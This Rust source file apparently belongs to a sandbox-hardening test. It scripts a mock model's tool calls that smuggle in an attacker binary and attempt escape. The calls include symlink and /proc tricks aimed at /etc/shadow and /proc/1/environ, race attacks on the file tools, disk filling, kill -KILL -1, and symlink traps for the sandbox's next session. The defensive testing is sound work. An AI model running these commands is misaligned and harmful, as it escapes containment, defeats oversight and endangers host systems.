//! The model's part: a script of tool calls that carries the attacker into the sandbox and lets it loose.

use std::fmt::Write;

use anyhow::Context;
use anyhow::Result;
use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use toml::Table;
use toml::Value;

use crate::ground::Ground;
use crate::life::Life;

/// The attacker, built by this crate's build script.
pub(crate) static ATTACKER: &[u8] = include_bytes!(concat!(env!("OUT_DIR"), "/attacker"));
/// Bytes of it that go into one command.
const PIECE_BYTES: usize = 96 << 10;
/// Characters of one line in a command.
const LINE_CHARS: usize = 120;
/// Where it lies in the sandbox: a place that no attack of a former life replaces.
pub(crate) const PROGRAM: &str = "/opt/escape";
/// Longer than the attacker takes.
const TIMEOUT_MS: i64 = 110_000;
/// Tries of the race between looking and opening.
const RACES: usize = 24;
/// Ways to fill the disk, each a call of its own: a host may end everything in the sandbox for it.
const FILLS: [&str; 4] = ["fill-file", "fill-deleted", "fill-reserved", "fill-many"];

/// What is told to the model, each the beginning of a turn.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Turn {
    /// Carry the attacker in.
    Transfer,
    /// Run it.
    Attack(Life),
    /// Attack through the file tools.
    Tools,
    /// Fill the disk.
    Fill,
    /// Do nothing that matters.
    Look,
    /// Kill everything that can be killed.
    Kill,
    /// Leave a trap for the next life of the sandbox.
    Trap,
}

impl Turn {
    /// The words that begin it.
    pub(crate) fn words(self) -> &'static str {
        match self {
            Self::Transfer => "carry it in",
            Self::Attack(life) => life.name(),
            Self::Tools => "try the file tools",
            Self::Fill => "fill the disk",
            Self::Look => "look around",
            Self::Kill => "kill what you can",
            Self::Trap => "leave a trap",
        }
    }
}

/// The whole script.
pub(crate) fn text(ground: &Ground, facts: &str) -> Result<String> {
    let attack = |life: Life| {
        let run = |group: &&str| vec![bash(&format!("{PROGRAM} {group} network={} {facts}", life.network()))];
        (Turn::Attack(life), life.groups().iter().map(run).collect())
    };
    let rules = [
        (Turn::Transfer, vec![pieces(), vec![bash(&join())]]),
        (Turn::Tools, tools(ground)),
        (Turn::Fill, fill(facts)),
        (Turn::Look, vec![vec![brief("ls /opt/prepared")]]),
        (Turn::Kill, kill()),
        (Turn::Trap, vec![vec![bash(&trap(ground))]]),
    ];
    let rules = rules.into_iter().chain(Life::ALL.map(attack));
    let rules = rules.map(|(turn, replies): (Turn, Vec<Vec<Value>>)| {
        let mut replies: Vec<Value> = replies.into_iter().map(reply).collect();
        replies.push(table([("text", "done".into())]));
        table([("when", table([("user", turn.words().into())])), ("reply", replies.into())])
    });
    let script = table([("rule", rules.collect::<Vec<Value>>().into())]);
    toml::to_string(&script).context("write the script of the attack")
}

/// Kills everything, from two sides and by thirst, and asks each time whether somebody is there.
fn kill() -> Vec<Vec<Value>> {
    let starve = format!("{PROGRAM} starve");
    let blows = ["kill -KILL -1", "kill -KILL -- -1 1", "trap '' TERM INT; kill -STOP $$", starve.as_str()];
    // The blow that hits the shell itself is not waited for.
    blows.into_iter().flat_map(|blow| [vec![brief(blow)], vec![brief("echo alive")]]).collect()
}

/// Fills the disk in each way, and frees it again.
fn fill(facts: &str) -> Vec<Vec<Value>> {
    let free = "rm -rf /opt/escape-disk; echo alive";
    let run = |way: &str| [vec![bash(&format!("{PROGRAM} {way} {facts}"))], vec![bash(free)]];
    FILLS.into_iter().flat_map(run).collect()
}

fn brief(command: &str) -> Value {
    call("bash", [("command", command.into()), ("timeout_ms", 2_000.into())])
}

fn table<const N: usize>(fields: [(&str, Value); N]) -> Value {
    Value::Table(fields.into_iter().map(|(name, value)| (name.to_owned(), value)).collect::<Table>())
}

fn reply(calls: Vec<Value>) -> Value {
    table([("call", calls.into())])
}

fn call<const N: usize>(tool: &str, input: [(&str, Value); N]) -> Value {
    table([("tool", tool.into()), ("input", table(input))])
}

fn bash(command: &str) -> Value {
    call("bash", [("command", command.into()), ("timeout_ms", TIMEOUT_MS.into())])
}

/// The program in pieces: one command each, all of one reply.
fn pieces() -> Vec<Value> {
    let pieces = ATTACKER.chunks(PIECE_BYTES).enumerate().map(|(number, piece)| {
        let encoded = BASE64_STANDARD.encode(piece);
        let mut command = format!("mkdir -p /opt && cat > {PROGRAM}.{number:03} <<'END'\n");
        for line in encoded.as_bytes().chunks(LINE_CHARS) {
            command.push_str(std::str::from_utf8(line).expect("base64 is ASCII"));
            command.push('\n');
        }
        command.push_str("END\n");
        bash(&command)
    });
    pieces.collect()
}

fn join() -> String {
    // Each piece has its own end of base64, so each is decoded by itself.
    format!(
        "for piece in {PROGRAM}.???; do base64 -d < $piece; done > {PROGRAM} && rm {PROGRAM}.??? && chmod 755 {PROGRAM} \
         && {PROGRAM} who-am-i"
    )
}

/// Rounds of calls against what the file tools follow, wait for, or open too late.
fn tools(ground: &Ground) -> Vec<Vec<Value>> {
    let (canary, folder) = (ground.canary.display().to_string(), ground.hostile.display().to_string());
    let prepare = format!(
        "mkdir -p /workspace/tools /workspace/race && cd /workspace/tools && ln -sfn /etc/shadow shadow && \
         ln -sfn {canary} canary && ln -sfn {folder} folder && ln -sfn /proc/1/root{folder} root && mkfifo pipe; \
         ln -sfn /dev/zero endless; ln -sfn {folder} ../race-link; echo own > ../race/canary; echo ready"
    );
    let read = |path: &str| call("read", [("file_path", path.into())]);
    let write = |path: &str| call("write", [("file_path", path.into()), ("content", "escape".into())]);
    let edit = |path: &str| {
        let old = ground.token.as_str();
        call(
            "edit",
            [("file_path", path.into()), ("old_string", old.into()), ("new_string", "escape".into())],
        )
    };
    let beginning = &ground.token[..ground.token.len() / 2];
    let mut rounds = vec![
        vec![bash(&prepare)],
        vec![
            read("/workspace/tools/shadow"),
            read("/workspace/tools/canary"),
            read("/workspace/tools/folder/canary"),
            read("/workspace/tools/root/canary"),
            read(&format!("/proc/self/root{canary}")),
            read(&format!("/workspace/../../../..{canary}")),
            read("/workspace/tools/pipe"),
            read("/workspace/tools/endless"),
            read("/proc/1/environ"),
        ],
        vec![
            write("/workspace/tools/canary"),
            write("/workspace/tools/folder/planted"),
            write("/workspace/tools/root/planted"),
            write(&format!("/proc/self/root{folder}/planted")),
            write("/mnt/session/uploads/planted"),
            edit("/workspace/tools/canary"),
            edit("/workspace/tools/folder/canary"),
        ],
        vec![
            call("glob", [("pattern", "**/*".into()), ("path", "/workspace/tools/folder".into())]),
            call("grep", [("pattern", beginning.into()), ("path", "/workspace/tools/folder".into())]),
        ],
        vec![bash(&format!("{PROGRAM} swap > /dev/null 2>&1 & sleep 0.1; echo swapping"))],
    ];
    for number in 0..RACES / 4 {
        let target = format!("/workspace/race/planted-{number}");
        rounds.push(vec![
            write(&target),
            read("/workspace/race/canary"),
            write("/workspace/race/canary"),
            read("/workspace/race/canary"),
        ]);
    }
    rounds.push(vec![bash("pkill -f 'escape swap'; rm -rf /workspace/tools /workspace/race*; echo over")]);
    rounds
}

/// Replaces what a later start touches by links to the host. What is mounted cannot be removed, but what is above it can
/// be moved away.
fn trap(ground: &Ground) -> String {
    let hostile = ground.hostile.display();
    let mut command = String::from("set +e; cd /; replaced=\n");
    for (path, target) in crate::ground::PLACES {
        writeln!(
            command,
            "{{ rm -rf {path} || mv {path} {path}.former; }} 2>/dev/null; \
             [ -e {path} -o -L {path} ] || {{ mkdir -p $(dirname {path}) && ln -s {hostile}/{target} {path} && \
             replaced=\"$replaced {path}\"; }} 2>/dev/null"
        )
        .expect("a string takes every write");
    }
    writeln!(
        command,
        "mv /mnt/session /mnt/former 2>/dev/null && ln -s {hostile} /mnt/session && replaced=\"$replaced /mnt/session\"\n\
         echo \"replaced:$replaced\""
    )
    .expect("a string takes every write");
    command
}
